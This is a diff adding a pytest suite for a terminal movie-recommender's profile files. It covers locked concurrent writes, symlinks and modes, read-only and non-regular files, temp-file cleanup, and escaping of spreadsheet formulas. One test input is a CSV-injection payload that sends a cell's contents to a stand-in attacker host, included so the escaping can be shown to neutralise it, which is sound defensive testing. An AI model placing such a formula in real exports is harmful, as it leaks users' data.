@@ -1,0 +1,159 @@
+"""A person's files: changed under a lock, read-change-replace, regular files only, links
+followed, modes kept, read-only refused, leftovers swept, spreadsheets kept from running cells."""
+
+from __future__ import annotations
+
+import contextlib
+import multiprocessing
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from tui_recsys.data import user_files
+from tui_recsys.data.profile import Profile, Rated, load_profile, profile_lock
+from tui_recsys.data.spreadsheet import plain_cell, safe_cell
+from tui_recsys.errors import DataError
+
+PAIRS = 100
+
+
+def _rate(path: Path, movie: int, start: multiprocessing.synchronize.Event) -> None:
+    """One `rate` as the commands do it: read, change and replace, under the lock."""
+    start.wait()
+    with profile_lock(path):
+        profile = load_profile(path)
+        profile.rate(Rated(movie, None, f"Film {movie}", 2000, 4.0))
+        profile.save()
+
+
+def _run_at_once(path: Path, movies: range) -> None:
+    context = multiprocessing.get_context("fork")
+    start = context.Event()
+    workers = [context.Process(target=_rate, args=(path, movie, start)) for movie in movies]
+    for worker in workers:
+        worker.start()
+    start.set()
+    for worker in workers:
+        worker.join(60)
+        assert worker.exitcode == 0
+
+
+def test_a_hundred_pairs_of_ratings_at_once_keep_every_one(tmp_path: Path):
+    path = tmp_path / "profile.csv"
+    _run_at_once(path, range(1, 2 * PAIRS + 1))
+    assert len(load_profile(path)) == 2 * PAIRS
+    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_without_the_lock_ratings_are_lost(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    """What the lock prevents, shown: the same run with it taken away loses ratings (the
+    forked workers inherit the patch)."""
+    monkeypatch.setattr(user_files, "locked", lambda *_: contextlib.nullcontext())
+    path = tmp_path / "profile.csv"
+    _run_at_once(path, range(1, 2 * PAIRS + 1))
+    assert len(load_profile(path)) < 2 * PAIRS
+
+
+def _profile(path: Path) -> Profile:
+    profile = Profile(path)
+    profile.rate(Rated(1, 862, "Toy Story", 1995, 4.0))
+    return profile
+
+
+def test_a_linked_profile_is_saved_through_its_link_with_its_mode(tmp_path: Path):
+    dotfiles = tmp_path / "dotfiles"
+    dotfiles.mkdir()
+    real = dotfiles / "profile.csv"
+    _profile(real).save()
+    real.chmod(0o640)
+    link = tmp_path / "profile.csv"
+    link.symlink_to(real)
+    _profile(link).save()
+    assert link.is_symlink() and load_profile(real).find(1, None) is not None
+    assert stat.S_IMODE(real.stat().st_mode) == 0o640
+
+
+def test_a_read_only_profile_is_refused_and_kept(tmp_path: Path):
+    path = tmp_path / "profile.csv"
+    path.write_text("movielens_id,tmdb_id,title,year,rating,rated_at\n")
+    path.chmod(0o444)  # refused by its mode, also for root, whom access() would let write
+    with pytest.raises(DataError, match="is read-only"):
+        _profile(path).save()
+    assert len(load_profile(path)) == 0
+
+
+def test_only_regular_files_are_read_or_replaced(tmp_path: Path):
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    with pytest.raises(DataError, match="is a FIFO, not a file"):
+        load_profile(fifo)  # opened without waiting: no hang
+    with pytest.raises(DataError, match="is a FIFO, not a file"):
+        _profile(fifo).save()
+    assert stat.S_ISFIFO(fifo.lstat().st_mode)
+    with pytest.raises(DataError, match="is a folder, not a file"):
+        load_profile(tmp_path)
+    device = tmp_path / "null"
+    try:
+        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # /dev/null's numbers
+    except PermissionError:
+        pytest.skip("making a device needs root")
+    with pytest.raises(DataError, match="is a device, not a file"):
+        _profile(device).save()
+    assert stat.S_ISCHR(device.lstat().st_mode)
+
+
+def test_a_byte_order_mark_is_read_and_a_huge_file_refused(tmp_path: Path):
+    path = tmp_path / "profile.csv"
+    path.write_bytes(b"\xef\xbb\xbfmovielens_id,tmdb_id,title,year,rating,rated_at\n"
+                     b"1,862,Toy Story,1995,4,\n")  # Excel's "CSV UTF-8"
+    assert load_profile(path).find(1, None) is not None
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as out:
+        out.truncate(user_files.MAX_BYTES + 1)
+    with pytest.raises(DataError, match="more than your profile could be"):
+        load_profile(huge)
+
+
+def test_a_killed_writers_leftover_is_swept_and_a_live_ones_kept(tmp_path: Path):
+    dead = tmp_path / ".tui-recsys-999999999-abc123.tmp"  # no such process
+    alive = tmp_path / f".tui-recsys-{os.getpid()}-def456.tmp"
+    theirs = tmp_path / ".tui-recsys-notes.tmp"
+    for path in (dead, alive, theirs):
+        path.write_text("x")
+    _profile(tmp_path / "profile.csv").save()
+    assert not dead.exists() and alive.exists() and theirs.exists()
+
+
+def test_a_long_profile_name_saves(tmp_path: Path):
+    path = tmp_path / ("p" * 250 + ".csv")
+    with profile_lock(path):
+        _profile(path).save()
+    assert len(load_profile(path)) == 1
+
+
+def test_ids_beyond_int64_are_one_line(tmp_path: Path):
+    path = tmp_path / "profile.csv"
+    path.write_text("movielens_id,tmdb_id,title,year,rating,rated_at\n"
+                    "9223372036854775808,,Big,2000,4,\n")
+    with pytest.raises(DataError, match="row 2: movielens_id '9223372036854775808' is too "
+                                        "large"):
+        load_profile(path)
+
+
+@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1",
+                                  "-30-", "@SUM(A1)", "\tx", "'=quoted", "'plain", "Plain"])
+def test_cells_are_safe_in_a_spreadsheet_and_read_back_unchanged(cell: str):
+    written = safe_cell(cell)
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert plain_cell(written) == cell
+
+
+def test_a_profile_with_a_formula_title_round_trips(tmp_path: Path):
+    path = tmp_path / "profile.csv"
+    profile = Profile(path)
+    profile.rate(Rated(1, None, "=HYPERLINK(\"x\")", 2000, 4.0))
+    profile.save()
+    assert "'=HYPERLINK" in path.read_text()
+    assert load_profile(path).find(1, None).title == "=HYPERLINK(\"x\")"
